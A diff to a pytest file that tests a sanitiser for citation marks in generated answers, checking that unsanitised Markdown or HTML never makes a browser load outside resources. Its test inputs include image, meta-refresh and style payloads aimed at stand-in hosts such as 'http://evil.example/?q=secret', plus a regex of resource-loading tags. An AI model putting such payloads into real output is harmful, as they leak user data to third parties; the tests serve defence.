@@ -1,10 +1,18 @@
 """Marks in answers: those that name a source stay, others go, however the answer is cut into pieces."""
 
+import re
+from random import Random
+
 import pytest
+from markdown_it import MarkdownIt
 
 from app.domain.citing import Marks, guarded
 
 SOURCES = 3
+BROWSERS = MarkdownIt("commonmark", {"html": True}), MarkdownIt("commonmark", {"html": True}).enable("table")
+LOADING = re.compile(
+    r"<(img|image|svg|picture|video|iframe|embed|link|meta|base|body)\b|<\w+\s[^>]*style=", re.IGNORECASE
+)
 
 
 def checked(text: str, size: int | None = None) -> tuple[str, Marks]:
@@ -32,7 +40,9 @@ def checked(text: str, size: int | None = None) -> tuple[str, Marks]:
         ("`![x](u)` is code, `![x](u) is none", "`![x](u)` is code, `[x](u) is none"),
         ("\\`![x](u)\\`", "\\`[x](u)\\`"),
         (" words ```\n![x](u)", " words ```\n[x](u)"),
-        ("  ```\n![x](u) <img src=u>\n  ```\n![x](u)", "  ```\n![x](u) <img src=u>\n  ```\n[x](u)"),
+        ("  ```\n  ![x](u) <img src=u>\n  ```\n![x](u)", "  ```\n  ![x](u) <img src=u>\n  ```\n[x](u)"),
+        ("- a\n  ```\n![x](u) `![9](u)` <img src=u>", "- a\n  ```\n! [x](u) `! [9](u)` < img src=u>"),
+        ("<p style=s> <br /> <b > 1 <2 <i\n", "&lt;p style=s> <br /> <b > 1 <2 &lt;i\n"),
         ("`" + "x" * 300 + " ![x](u)`", "`" + "x" * 300 + " [x](u)`"),
         ("![1](http://evil) ![1][r] ![1]: u", "[1](http://evil) [1][r] [1]: u"),
         ("<img src=u> </IMG> <b> a < b <image2", "&lt;img src=u> &lt;/IMG> <b> a < b <image2"),
@@ -41,7 +51,9 @@ def checked(text: str, size: int | None = None) -> tuple[str, Marks]:
         ("a stray ` and [9]\nnext [9]", "a stray ` and \nnext "),
         ("![tracker](http://evil.example/?q=secret)", "[tracker](http://evil.example/?q=secret)"),
         ("![](http://evil.example)", "[](http://evil.example)"),
-        ("Great![1] No![9]", "Great![1] No!"),
+        ("Great![1] No![9]", "Great! [1] No!"),
+        ("word[9]word 第一[9]第二 <[9]b", "word word 第一第二 < b"),
+        (f"all [{', '.join(['1'] * 20)}, 9]", f"all [{', '.join(['1'] * 20)}]"),
         ("see [9](#page=9) and [1](x)", "see [9](#page=9) and [1](x)"),
         ("ends with [", "ends with ["),
         ("ends with [1", "ends with [1"),
@@ -54,6 +66,81 @@ def checked(text: str, size: int | None = None) -> tuple[str, Marks]:
 def test_a_mark_names_a_source_or_goes(written: str, told: str) -> None:
     for size in (None, 1, 2, 3, 7):
         assert checked(written, size)[0] == told
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "![9]![9][alt](http://evil)",
+        "<[9]img src=http://evil>",
+        "<im[9][9]g src=http://evil>",
+        "![1]\n\n[1]: http://evil",
+        "<meta http-equiv=refresh content=0;url=http://evil>",
+        "<x style=background:url(http://evil)>",
+        "    ```\n![x](http://evil)",
+        "``` `\n![x](http://evil)",
+        "\u3000```\n![x](http://evil)",
+        "```\n```x\n```\n![x](http://evil)",
+        "- a\n  ```\n![x](http://evil)",
+        "- ```\n  ```\n  ![x](http://evil)",
+        "~~~\n```\n~~~\n![x](http://evil)",
+        "<div>\n```\n\n![x](http://evil)",
+        "a ` b\n`![x](http://evil)`",
+        "\\\\\\`![x](http://evil)`",
+        '<a title="`">![x](http://evil)`',
+        "| a | b |\n|---|---|\n| ` | ![x](http://evil) ` |",
+        "```\nx\r```\n![x](http://evil)",
+    ],
+)
+def test_nothing_that_is_code_only_to_us_has_a_browser_load_anything(written: str) -> None:
+    for size in (None, 1, 2, 3, 7):
+        assert loaded(checked(written, size)[0]) == []
+
+
+def test_whatever_is_written_loads_nothing_and_is_told_the_same_however_it_is_cut() -> None:
+    random = Random(7)  # noqa: S311
+    pieces = [
+        "![x](u)",
+        "![1]",
+        "[9]",
+        "!",
+        "[1]: u\n",
+        "`",
+        "``",
+        "```",
+        "~~~",
+        "\n",
+        "\n\n",
+        "  ",
+        "    ",
+        "- ",
+        "> ",
+    ]
+    pieces += [
+        "\\",
+        "<",
+        "<img src=u>",
+        "<p style=u>",
+        "img ",
+        "<!--",
+        "-->",
+        "|",
+        "|a|b|\n|-|-|\n",
+        "x",
+        "保",
+        "\u00a0",
+    ]
+    for _ in range(3000):
+        written = "".join(random.choices(pieces, k=random.randint(2, 12)))
+        told = checked(written)[0]
+        assert checked(written, random.randint(1, 5))[0] == told, written
+        assert loaded(told) == [], written
+
+
+def loaded(told: str) -> list[str]:
+    """What a browser would ask others for that is shown this, as any renderer of Markdown makes it."""
+    pages = [browser.render(told) for browser in BROWSERS]
+    return [page for page in pages if LOADING.search(page)]
 
 
 def test_what_was_named_and_what_was_dropped_is_counted() -> None:
